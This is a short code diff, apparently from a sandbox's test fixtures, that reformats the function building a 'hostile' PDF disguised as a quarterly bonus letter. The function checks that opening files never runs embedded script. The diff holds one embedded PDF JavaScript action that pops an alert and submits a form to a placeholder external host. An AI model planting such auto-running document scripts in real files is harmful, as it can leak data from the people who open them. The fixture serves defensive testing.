@@ -253,7 +253,8 @@ export function hostilePdf(): Buffer {
   page.text(72, 720, 'Quarterly bonus letter', { size: 20, bold: true });
   page.text(72, 690, 'This file carries script. Opening it must never run any of it.', { size: 11 });
   // Objects 6-7 are the page and its contents; 8 is the script, 9 the link.
-  const script = '<< /S /JavaScript /JS (app.alert\\(1\\); this.submitForm\\({cURL: "https://example.invalid/"}\\);) >>';
+  const script =
+    '<< /S /JavaScript /JS (app.alert\\(1\\); this.submitForm\\({cURL: "https://example.invalid/"}\\);) >>';
   return buildPdf(
     [page],
     { Title: 'Quarterly bonus letter', Producer: 'stackone-inbox sandbox' },
